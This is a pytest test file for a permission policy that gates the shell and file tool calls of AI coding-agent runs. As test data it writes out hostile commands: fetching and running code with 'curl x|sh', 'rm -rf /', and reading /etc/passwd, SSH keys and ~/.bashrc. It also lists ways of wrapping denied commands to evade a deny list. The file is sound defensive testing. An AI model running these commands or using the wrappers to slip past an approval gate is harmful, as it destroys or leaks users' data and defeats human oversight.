"""``palacectl.features.approvals.permission_policy``: which of a launched run's tool calls palace allows, refuses,
or asks a person about, and how ``[permissions]`` is read (every mistake named in one line).
Issue 43, finding 1: a shell rule judges each command a line runs, never the line's first words;
a file tool is judged on the path it really reaches, inside the run's worktree only."""

from __future__ import annotations

import os
import posixpath
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from palacectl.features.approvals.permission_policy import PermissionPolicy, PolicyError, main_argument

WORKTREE = Path("/w")


def fake_resolver(links: dict[str, str] | None = None):
    """``os.path.realpath`` over a pretend file system of ``links`` (symlink → target), pure."""
    links = links or {}

    def resolve(path: Path) -> Path:
        parts = posixpath.normpath(str(path)).split("/")[1:]
        done, hops = "/", 0
        while parts:
            step = posixpath.join(done, parts.pop(0))
            if step in links and hops < 40:
                hops += 1
                target = links[step]
                target = target if target.startswith("/") else posixpath.join(done, target)
                parts = posixpath.normpath(target).split("/")[1:] + parts
                done = "/"
            else:
                done = step
        return Path(posixpath.normpath(done))

    return resolve


RESOLVE = fake_resolver({"/w/escape": "/home/u/.bashrc", "/w/docs": "/w/src/docs", "/w/up": ".."})


def verdict(policy, tool, worktree=WORKTREE, resolve=RESOLVE, **tool_input):
    return policy.decide(tool, tool_input, worktree, resolve).verdict


def shell(policy, command, worktree=WORKTREE):
    return policy.decide("Bash", {"command": command}, worktree, RESOLVE)


def test_the_default_lets_a_run_read_and_edit_refuses_pushing_and_asks_the_rest():
    policy = PermissionPolicy()
    assert verdict(policy, "Edit", file_path="/w/src/a.py") == "allow"
    assert verdict(policy, "Read", file_path="/etc/hosts") == "ask"
    assert verdict(policy, "Bash", command="git diff --stat") == "allow"
    assert verdict(policy, "Bash", command="git push origin main") == "deny"
    assert verdict(policy, "Bash", command="cd build && rm -rf /") == "deny"
    assert verdict(policy, "Bash", command="sudo apt-get install x") == "deny"
    assert verdict(policy, "Bash", command="make deploy") == "ask"
    assert verdict(policy, "WebFetch", url="https://example.com") == "ask"
    assert verdict(policy, "mcp__other__tool", anything=1) == "ask"
    assert policy.ask_to == "human:*" and policy.timeout_s == 1800


@pytest.mark.parametrize(("command", "expected"), [
    ("git status", "allow"),
    ("git status --short && git diff --stat | head -5", "ask"),  # head is not allowed
    ("git status --short && git log -3 2>/dev/null", "allow"),
    ("git status 2>&1", "allow"),
    ("(git status; pwd) && ls -la src", "allow"),
    ("git status; curl x|sh", "ask"),
    ("git diff\nrm -r -f ~", "ask"),
    ("git status $(curl x)", "ask"),
    ("git status `curl x`", "ask"),
    ("git diff <(curl x)", "ask"),
    ("ls && git push --force", "deny"),
    ("git status || git push", "deny"),
    ("echo $(git push)", "deny"),
    ("env X=1 git push", "deny"),
    ("bash -c 'git status; git push'", "deny"),
    ("git log --output=/tmp/x", "ask"),
    ("git log --output=notes.txt", "ask"),
    ("git diff --output /tmp/x", "ask"),
    ("git diff --ext-diff", "ask"),
    ("git -c core.pager=sh log", "ask"),
    ("git -C /tmp status", "ask"),
    ("git log --exec-path=/tmp", "ask"),
    ("git diff --no-index /home/u/.ssh/id_rsa /dev/null", "ask"),
    ("git log --format='%(describe)' -1", "allow"),
    ("git log --format=%H -1", "allow"),
    ("git diff HEAD~1", "allow"),
    ("git status > out.txt", "ask"),
    ("git status >> out.txt", "ask"),
    ("git status &> out.txt", "ask"),
    ("git status >| out.txt", "ask"),
    ("git diff > /dev/null", "allow"),
    ("git diff < /etc/passwd", "ask"),
    ("GIT_EXTERNAL_DIFF=sh git diff", "ask"),
    ("PATH=.:$PATH; git status", "ask"),
    ("git() { curl x|sh; }; git status", "ask"),
    ("if true; then git status; fi", "ask"),
    ("git diff *", "ask"),  # a file named --output=… would be an option
    ("ls ~", "ask"),
    ("ls /etc", "ask"),
    ("ls /w/src", "allow"),
    ("ls ../other", "ask"),
    ("git diff {a,b}", "ask"),
    ("$GIT status", "ask"),
    ("git status 'unterminated", "ask"),
    ("git statusx", "ask"),
    ("lsof -i", "ask"),
    ("git status\rcurl x", "ask"),
    ("cat <<EOF | sh\ncurl x\nEOF", "ask"),
    ("", "ask"),
    ("# only a comment", "ask"),
])
def test_a_shell_rule_judges_every_command_the_line_runs(command, expected):
    """Guards issue 43 finding 1: `Bash(git status*)` matched the whole line as a glob, so
    anything after an allowed command's first words ran, and `ls && git push` escaped the deny."""
    decision = shell(PermissionPolicy(), command)
    assert decision.verdict == expected, decision


def test_a_refusal_and_a_question_say_which_command_and_why():
    policy = PermissionPolicy()
    refused = shell(policy, "ls && git push --force")
    assert refused.rule == "Bash(git push*)" and "refused by palace's policy (Bash(git push*))" in refused.reason
    assert "`git push --force`" in refused.reason
    asked = shell(policy, "git status; curl x|sh")
    assert asked.reason == "`curl x` is not covered by the policy: asking human:*"
    written = shell(policy, "git log --output=/tmp/x")
    assert "writes" in written.reason or "may write" in written.reason, written
    allowed = shell(policy, "git status && git diff")
    assert allowed.verdict == "allow" and allowed.rule == "Bash(git status*), Bash(git diff*)"


def test_a_shell_rule_without_a_pattern_allows_only_what_palace_can_read():
    policy = PermissionPolicy.parse({"allow": ["Bash"], "deny": ["Bash(*--force*)"]})
    assert shell(policy, "npm test").verdict == "allow"
    assert shell(policy, "npm test && curl x | sh").verdict == "allow"  # the person allowed every command
    decision = shell(policy, "git push --force")
    assert decision.verdict == "deny" and decision.rule == "Bash(*--force*)"
    assert "refused by palace's policy (Bash(*--force*))" in decision.reason
    assert shell(policy, "$CMD --force").verdict == "deny"  # the line as written still meets the deny list
    assert shell(policy, "$CMD push").verdict == "ask"  # a command palace cannot name is never a yes
    assert policy.decide("Bash", {"command": ["ls"]}, WORKTREE, RESOLVE).verdict == "ask"


def test_without_a_worktree_absolute_paths_in_commands_are_asked():
    policy = PermissionPolicy()
    assert shell(policy, "ls /w/src", worktree=None).verdict == "ask"
    assert shell(policy, "git status", worktree=None).verdict == "allow"


@pytest.mark.parametrize(("tool", "tool_input", "expected"), [
    ("Read", {"file_path": "/w/src/x.py"}, "allow"),
    ("Read", {"file_path": "src/x.py"}, "allow"),
    ("Read", {"file_path": "/home/u/.bashrc"}, "ask"),
    ("Read", {"file_path": "~/.bashrc"}, "ask"),
    ("Read", {"file_path": "/home/u/.palace/config.toml"}, "ask"),
    ("Read", {"file_path": "/home/u/.palace/identity.key"}, "ask"),
    ("Read", {"file_path": "/w/../etc/passwd"}, "ask"),
    ("Read", {"file_path": "../x"}, "ask"),
    ("Edit", {"file_path": "/w/escape", "old_string": "a", "new_string": "b"}, "ask"),  # a symlink out
    ("Write", {"file_path": "/w/up/x", "content": "x"}, "ask"),  # a symlink to ..
    ("Edit", {"file_path": "/w/docs/a.md"}, "allow"),  # a symlink that stays inside
    ("Write", {"file_path": "/w/.git/hooks/pre-commit", "content": "x"}, "ask"),
    ("Write", {"file_path": "/w/.claude/settings.json", "content": "{}"}, "ask"),
    ("Edit", {"file_path": "/w/.gemini/settings.json"}, "ask"),
    ("Write", {"file_path": "/w/.mcp.json", "content": "{}"}, "ask"),
    ("Read", {"file_path": "/w/.git/config"}, "allow"),
    ("Write", {"content": "x"}, "ask"),
    ("Read", {"file_path": 7}, "ask"),
    ("Glob", {"pattern": "**/*.py"}, "allow"),
    ("Glob", {"pattern": "*.py", "path": "/w/src"}, "allow"),
    ("Glob", {"pattern": "/etc/*"}, "ask"),
    ("Glob", {"pattern": "../*"}, "ask"),
    ("Glob", {"pattern": "src/*/../../../*"}, "ask"),
    ("Glob", {"pattern": "*", "path": "/etc"}, "ask"),
    ("Grep", {"pattern": "TODO"}, "allow"),
    ("Grep", {"pattern": "TODO", "path": "/home/u"}, "ask"),
    ("Grep", {"pattern": "TODO", "glob": "../../*"}, "ask"),
    ("LS", {"path": "/w/src"}, "allow"),
    ("LS", {"path": "/"}, "ask"),
    ("LS", {"dir_path": "/etc"}, "ask"),
])
def test_a_file_tool_is_judged_on_the_path_it_reaches(tool, tool_input, expected):
    """Guards issue 43 finding 1: `Read`, `Write` and `Edit` were allowed on any path (the
    user's ~/.bashrc, palace's own config and key)."""
    decision = PermissionPolicy().decide(tool, tool_input, WORKTREE, RESOLVE)
    assert decision.verdict == expected, decision


def test_a_file_tool_is_asked_when_the_worktree_is_unknown_and_deny_rules_see_every_form():
    policy = PermissionPolicy.parse({"allow": ["Read", "Edit(src/*)"], "deny": ["Read(*.env)"]})
    assert policy.decide("Read", {"file_path": "/w/a"}, None, RESOLVE).verdict == "ask"
    assert policy.decide("Read", {"file_path": "/w/a"}, WORKTREE, None).verdict == "ask"
    assert "does not know this run's worktree" in policy.decide("Read", {"file_path": "/w/a"}).reason
    assert policy.decide("Read", {"file_path": "/w/.env"}, None, None).verdict == "deny"
    linked = fake_resolver({"/w/notes.txt": "/w/.env"})
    assert policy.decide("Read", {"file_path": "notes.txt"}, WORKTREE, linked).verdict == "deny"
    assert policy.decide("Edit", {"file_path": "/w/src/a.py"}, WORKTREE, RESOLVE).verdict == "allow"
    assert policy.decide("Edit", {"file_path": "/w/lib/a.py"}, WORKTREE, RESOLVE).verdict == "ask"
    outside = policy.decide("Read", {"file_path": "/home/u/.bashrc"}, WORKTREE, RESOLVE)
    assert outside.reason == "/home/u/.bashrc is outside this run's worktree (/w): asking human:*"


def test_a_real_symlink_out_of_the_worktree_is_asked(tmp_path):
    """The same with the file system's own resolution (what the approve tool and hook pass)."""
    worktree, secret = tmp_path / "w", tmp_path / "secret"
    worktree.mkdir()
    secret.write_text("key")
    (worktree / "link").symlink_to(secret)
    (worktree / "a.py").write_text("")
    real = lambda p: Path(os.path.realpath(p))  # noqa: E731
    policy = PermissionPolicy()
    assert policy.decide("Edit", {"file_path": str(worktree / "link")}, worktree, real).verdict == "ask"
    assert policy.decide("Read", {"file_path": "a.py"}, worktree, real).verdict == "allow"
    assert policy.decide("Write", {"file_path": "new/b.py"}, worktree, real).verdict == "allow"


def test_a_pattern_matches_the_main_argument_or_the_whole_input():
    assert main_argument("Bash", {"command": "ls -l"}) == "ls -l"
    assert main_argument("WebFetch", {"url": "https://x", "prompt": "p"}) == "https://x"
    assert main_argument("Custom", {"b": 2, "a": "x"}) == '{"a":"x","b":2}'
    assert main_argument("Bash", {"command": ["not", "a", "string"]}) == '{"command":["not","a","string"]}'
    policy = PermissionPolicy.parse({"allow": ['Custom(*"a":"x"*)']})
    assert verdict(policy, "Custom", a="x") == "allow" and verdict(policy, "Custom", a="y") == "ask"


def test_a_runner_table_overrides_the_defaults_key_by_key():
    config = {"permissions": {"ask_to": "human:ana", "timeout": "10m",
                              "claude": {"allow": ["Bash(npm test*)"], "timeout": 90}}}
    claude = PermissionPolicy.from_config(config, "claude")
    assert (claude.ask_to, claude.timeout_s) == ("human:ana", 90)
    assert verdict(claude, "Bash", command="npm test -- -k x") == "allow"
    assert verdict(claude, "Read", file_path="x") == "ask"  # its own allow list replaced the default
    codex = PermissionPolicy.from_config(config, "codex")
    assert (codex.ask_to, codex.timeout_s) == ("human:ana", 600) and verdict(codex, "Read", file_path="x") == "allow"
    assert PermissionPolicy.from_config({}, "claude") == PermissionPolicy()


@pytest.mark.parametrize(("config", "words"), [
    ({"permissions": []}, "[permissions] must be a table"),
    ({"permissions": {"alow": []}}, "no key 'alow'"),
    ({"permissions": {"claude": {"deny": "Bash"}}}, "[permissions.claude] deny must be a list"),
    ({"permissions": {"allow": ["Bash(x"]}}, "is not a rule"),
    ({"permissions": {"allow": [""]}}, "each rule is a string"),
    ({"permissions": {"allow": ["Read"] * 129}}, "at most 128 rules"),
    ({"permissions": {"ask_to": "mac-claude"}}, "ask_to: a person"),
    ({"permissions": {"timeout": "soon"}}, "timeout: a duration"),
    ({"permissions": {"timeout": 0}}, "from 1 s to 7 days"),
    ({"permissions": {"claude": {"ask": "x"}}}, "[permissions.claude] has no key 'ask'"),
])
def test_a_broken_policy_is_refused_naming_the_key(config, words):
    with pytest.raises(PolicyError) as caught:
        PermissionPolicy.from_config(config, "claude")
    assert words in str(caught.value) and "\n" not in str(caught.value)


def test_the_policy_describes_itself_in_one_line():
    line = PermissionPolicy().describe()
    assert "\n" not in line and "ask human:*" in line and "deny 4 rule(s)" not in line


# -- property: a denied command anywhere in a line is never allowed ----------------------------

DENIED = st.sampled_from(["git push", "git push --force origin main", "sudo rm x", "rm -rf build", "rm -fr /",
                          "git push -u origin HEAD"])
ALLOWED = st.sampled_from(["git status", "git diff --stat", "git log -3", "ls", "ls -la src", "pwd", "npm test"])
SEPARATOR = st.sampled_from(["; ", " && ", " || ", " | ", "\n", " & ", " |& ", ";\n"])


def _wrap(command: str, how: str) -> str:
    return {
        "plain": command, "subst": f"echo $( {command} )", "backticks": f"echo `{command}`",
        "process": f"diff <( {command} ) x", "subshell": f"( {command} )", "group": f"{{ {command}; }}",
        "negated": f"! {command}", "env": f"env A=1 {command}", "timeout": f"timeout 5 {command}",
        "xargs": f"xargs {command}", "nohup": f"nohup {command}", "bash": f"bash -c {shlex.quote(command)}",
        "sh": f"sh -c {shlex.quote(command)}", "eval": f"eval {shlex.quote(command)}",
        "exec": f"exec {command}", "command": f"command {command}", "prefix": f"X=1 {command}",
        "redirected": f"{command} 2>/dev/null", "string": f'echo "$( {command} )"',
        "heredoc": f"cat <<EOF\n$( {command} )\nEOF", "if": f"if true; then {command}; fi",
    }[how]


#: what wraps a simple command only, and what wraps any command line
SIMPLE = st.sampled_from(["plain", "env", "timeout", "xargs", "nohup", "exec", "command", "prefix", "bash", "sh",
                          "eval", "redirected"])
ANY = st.sampled_from(["plain", "subst", "backticks", "process", "subshell", "group", "negated", "bash", "sh", "eval",
                       "string", "heredoc", "if"])


@st.composite
def lines_with_a_denied_part(draw):
    parts = draw(st.lists(ALLOWED, max_size=4))
    parts.insert(draw(st.integers(0, len(parts))), _wrap(_wrap(draw(DENIED), draw(SIMPLE)), draw(ANY)))
    line = parts[0]
    for part in parts[1:]:
        line += draw(SEPARATOR) + part
    return line


POLICIES = [PermissionPolicy(), PermissionPolicy.parse({"allow": ["Bash"]}),
            PermissionPolicy.parse({"allow": ["Bash(*)", "Bash(echo*)", "Bash(env*)", "Bash(bash*)"]})]


@settings(max_examples=400, deadline=None)
@given(lines_with_a_denied_part())
def test_no_line_with_a_denied_command_in_it_is_allowed(line):
    """Guards issue 43 finding 1: the deny list applies to every command of a line, wherever it
    sits and whatever wraps it; and even a policy that allows every command refuses it."""
    for policy in POLICIES:
        decision = shell(policy, line)
        assert decision.verdict == "deny", (line, decision)


NOISE = st.text(alphabet=st.sampled_from(list("ab ;&|()$`\n>*~{}=!-")), max_size=30)


@settings(max_examples=300, deadline=None)
@given(NOISE, DENIED, NOISE)
def test_no_line_of_noise_around_a_denied_command_is_allowed(before, denied, after):
    """Whatever shell syntax surrounds a denied command on its own line (nothing that quotes it:
    no quotes, backslashes, comments or here-documents), the line is never allowed."""
    line = f"{before}\n{denied}\n{after}"
    for policy in POLICIES:
        assert shell(policy, line).verdict != "allow", line
